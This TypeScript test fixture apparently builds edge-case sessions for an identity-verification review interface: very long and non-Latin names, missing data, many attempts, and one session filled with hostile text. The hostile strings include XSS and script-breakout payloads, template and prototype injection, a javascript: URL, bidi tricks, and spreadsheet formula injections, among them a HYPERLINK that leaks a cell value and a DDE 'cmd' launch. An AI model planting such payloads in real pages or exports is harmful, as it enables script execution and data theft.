import { unreadClient, type Client } from '../../model/client.js';
import { checkMrz } from '../../model/mrz.js';
import { composeMrz } from '../../model/mrz/compose.js';
import { assess } from '../../model/policy.js';
import type { Attempt, Session } from '../../model/session.js';
import { defaultSettings } from '../../model/settings.js';
import { sampleSessions } from './sessions.js';

const minute = 60_000;

/** Text that does harm unless it is treated as text. */
export const hostileTexts: Readonly<Record<string, string>> = Object.freeze({
  markup: '<img src=x onerror="globalThis.hacked = true">',
  script: '</script><script>globalThis.hacked = true</script>',
  template: '${globalThis.hacked = true} {{constructor.constructor("hacked = true")()}}',
  url: 'javascript:globalThis.hacked=true',
  bidirectional: 'Anna \u202Ereversed\u202C \u2066isolated\u2069 \u200Fmark',
  formula: '=HYPERLINK("https://example.com/?leak="&A1,"Open")',
  formulaBehindBreak: "\n\t=1+1*cmd|'/C calc'!A0",
  fullWidthFormula: '\uFF1D1+1',
  zeroWidth: '\u200B@SUM(1+1)',
  control: 'bell\u0007 escape\u001B[31m null\u0000',
  combining: `Z${'\u0351\u036B\u0343'.repeat(30)}`,
});

/**
 * Edge cases that the kit must show. All of them await action, so that they can be
 * decided. Their ids:
 * - `edge-long-name`: a name of 120 characters, and one of 60 without a line break opportunity
 * - `edge-arabic-name`, `edge-georgian-name`
 * - `edge-extra-fields`: forty values, most of them with keys that the workspace does not define
 * - `edge-attempts`: thirty attempts, most of them interrupted
 * - `edge-no-photos`: a document without photos
 * - `edge-nothing-read`: no document, no client, no liveness, no screening
 * - `edge-not-measured`: a driving licence without a zone, from a vendor that compares faces without a
 *   level and measures neither liveness nor spoofs
 * - `edge-hostile`: `hostileTexts` in every text, and keys such as `__proto__`
 */
export function edgeSessions(): Session[] {
  const base = findBase();
  return [
    withClient(base, 'edge-long-name', longName, [
      'Maximiliana Theodora',
      'Wolkenbruchregenbogensternschnuppenigelmann',
    ]),
    withClient(
      base,
      'edge-arabic-name',
      { firstName: 'عبد الرحمن', lastName: 'أبو سحابة القنفذي', nationality: 'EGY' },
      ['Abdelrahman', 'Abou Sahaba El Qonfozy'],
    ),
    withClient(
      base,
      'edge-georgian-name',
      { firstName: 'ჭიჭიკო', lastName: 'ცისარტყელაშვილი', nationality: 'GEO' },
      ['Chichiko', 'Tsisartqelashvili'],
    ),
    { ...rename(base, 'edge-extra-fields'), extra: fortyValues() },
    withAttempts(base),
    withoutPhotos(base),
    nothingRead(base),
    notMeasured(base),
    hostile(base),
  ].map(judged);
}

/** As judged by a company that reviews every document, so that the session awaits action. */
function judged(session: Session): Session {
  const last = session.attempts.at(-1);
  if (!last) return session;
  const settings = { ...defaultSettings, documentReview: true };
  const { failedConditions, documentValid } = assess(last, settings, {
    now: new Date(last.finishedAt ?? last.startedAt),
    ipCountry: { kind: 'absent' },
    screening: { status: 'absent' },
  });
  return {
    ...changeLast(session, (attempt) => ({ ...attempt, documentValid })),
    documentValid,
    failedConditions: [...session.failedConditions, ...failedConditions],
  };
}

const longName: Partial<Client> = {
  firstName:
    'Maximiliana Theodora Anna-Katharina Wilhelmine Friederike Konstanze Rosalinde Ottilie Kunigunde Eulalia Seraphine Luise'.padEnd(
      120,
      'n',
    ),
  lastName: 'Wolkenbruchregenbogensternschnuppenigelmannundmondscheinfalter',
  nationality: 'D',
};

/** An ordinary passport session with one complete attempt, which awaits action. */
function findBase(): Session {
  const found = sampleSessions({ count: 400, seed: 'edges' }).find(
    ({ status, attempts, documentType, client }) =>
      status === 'awaiting' &&
      attempts.length === 1 &&
      documentType === 'passport' &&
      client.firstName !== null,
  );
  if (!found) throw new RangeError('no ordinary session');
  return { ...structuredClone(found), failedConditions: [] };
}

function rename(base: Session, id: string): Session {
  const renamed = structuredClone({ ...base, id });
  for (const attempt of renamed.attempts) {
    for (const photo of attempt.photos) photo.id = `${id}-${photo.kind}`;
  }
  renamed.selfie = renamed.attempts.at(-1)?.photos.find(({ kind }) => kind === 'selfie') ?? null;
  return renamed;
}

function changeLast(session: Session, change: (last: Attempt) => Attempt): Session {
  const last = session.attempts.at(-1);
  return last
    ? { ...session, attempts: [...session.attempts.slice(0, -1), change(last)] }
    : session;
}

function withClient(
  base: Session,
  id: string,
  names: Partial<Client>,
  [firstName, lastName]: readonly [string, string],
): Session {
  const front: Client = { ...base.client, ...names };
  const mrz = composeMrz('TD3', {
    documentNumber: front.documentNumber ?? 'XX0000000',
    personalNumber: front.personalNumber,
    sex: front.sex,
    birthDate: front.birthDate,
    expirationDate: front.expirationDate ?? '2030-01-01',
    nationality: front.nationality ?? 'UTO',
    issuingState: front.nationality ?? 'UTO',
    firstName: firstName.toUpperCase(),
    lastName: lastName.toUpperCase(),
  });
  const { fields } = checkMrz(mrz);
  const back: Client = { ...front, firstName: fields.firstName, lastName: fields.lastName };
  const session = { ...rename(base, id), client: front };
  return changeLast(session, (last) => ({ ...last, front, back, mrz }));
}

function fortyValues(): Session['extra'] {
  const known = [
    { key: 'phone', value: '+12025550142' },
    {
      key: 'email',
      value: 'a.very.long.address.that.does.not.fit.anywhere@subdomain.of.a.subdomain.example.com',
    },
    { key: 'tier', value: 'Premium' },
  ];
  const unknown = Array.from({ length: 40 - known.length }, (_, index) => ({
    key: `customField${index + 1}`,
    value:
      index % 7 === 0
        ? 'A longer text of the kind that people write into fields. '.repeat(6).trim()
        : `value ${index + 1}`,
  }));
  return [...known, ...unknown];
}

function withAttempts(base: Session): Session {
  const session = rename(base, 'edge-attempts');
  const last = session.attempts.at(-1);
  if (!last) return session;
  const started = Date.parse(last.startedAt);
  const earlier = Array.from({ length: 29 }, (_, index): Attempt => ({
    ...structuredClone(last),
    number: index + 1,
    startedAt: new Date(started - (30 - index) * 5 * minute).toISOString(),
    finishedAt:
      index % 4 === 0 ? new Date(started - (30 - index) * 5 * minute + minute).toISOString() : null,
    faceMatch: index % 4 === 0 ? { level: 1, confidence: 31 } : null,
    livenessPassed: index % 4 === 0 ? false : null,
    livenessFinished: index % 4 === 0,
    photos: last.photos.map((photo) => ({ ...photo, id: `${photo.id}-${index + 1}` })),
  }));
  const createdAt = earlier[0]?.startedAt ?? session.createdAt;
  return {
    ...session,
    createdAt,
    attempts: [...earlier, { ...last, number: 30 }],
    attemptCount: 30,
  };
}

function withoutPhotos(base: Session): Session {
  const session = { ...rename(base, 'edge-no-photos'), selfie: null };
  return changeLast(session, (last) => ({ ...last, photos: [] }));
}

function nothingRead(base: Session): Session {
  const nothing = {
    documentType: null,
    documentValid: null,
    documentFinished: false,
    livenessPassed: null,
    livenessFinished: false,
    faceMatch: null,
    spoof: { idIsReal: null, fullIdDetected: null },
    device: { name: null, type: null, browser: null, os: null, userAgent: null },
    clientIp: null,
  };
  const session: Session = {
    ...rename(base, 'edge-nothing-read'),
    ...nothing,
    client: { ...unreadClient },
    documentPresented: false,
    extra: [],
    selfie: null,
    screening: { status: 'absent' },
  };
  return changeLast(session, (last) => ({
    ...last,
    ...nothing,
    front: null,
    back: null,
    mrz: null,
    photos: [],
  }));
}

function notMeasured(base: Session): Session {
  const results = {
    documentType: 'driving-licence',
    documentValid: null,
    documentFinished: null,
    livenessPassed: null,
    livenessFinished: null,
    faceMatch: { level: null, confidence: 91 },
    spoof: { idIsReal: null, fullIdDetected: null },
  };
  return changeLast({ ...rename(base, 'edge-not-measured'), ...results }, (last) => ({
    ...last,
    ...results,
    back: null,
    mrz: null,
  }));
}

function hostile(base: Session): Session {
  const id = 'edge-hostile';
  const texts = Object.values(hostileTexts);
  const {
    markup = '',
    bidirectional = '',
    formula = '',
    script = '',
    url = '',
    template = '',
  } = hostileTexts;
  const at = base.attempts.at(-1)?.finishedAt ?? base.createdAt;
  const by = { id: 'user-hostile', name: bidirectional };
  const client: Client = {
    ...base.client,
    firstName: markup,
    lastName: bidirectional,
    documentNumber: formula,
    personalNumber: script,
    nationality: template,
  };
  const device = { ...base.device, name: markup, browser: script, os: template, userAgent: markup };
  const session: Session = {
    ...rename(base, id),
    client,
    device,
    clientIp: url,
    companyName: markup,
    extra: [
      { key: '__proto__', value: markup },
      { key: 'constructor', value: url },
      { key: 'toString', value: formula },
      { key: markup, value: script },
      { key: 'website', value: url },
      ...texts.map((value, index) => ({ key: `hostile${index}`, value })),
    ],
    notes: texts.map((text, index) => ({ id: `n-${index}`, text, by, at, verdict: null })),
    changes: [{ field: 'firstName', before: formula, after: markup, by, at }],
    failedConditions: [
      { condition: 'other', name: markup, observed: script, required: bidirectional },
    ],
    screening: {
      status: 'match',
      checkedAt: at,
      lists: [markup],
      matches: [
        {
          id: markup,
          list: script,
          authority: url,
          name: bidirectional,
          alias: formula,
          birthDates: [script, '1968'],
          countries: [markup, bidirectional],
          score: 0.9,
        },
      ],
    },
  };
  return changeLast(session, (last) => ({
    ...last,
    device,
    clientIp: url,
    front: client,
    back: client,
    mrz: ['=1+1*cmd(<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<', markup.padEnd(44, '<')],
  }));
}
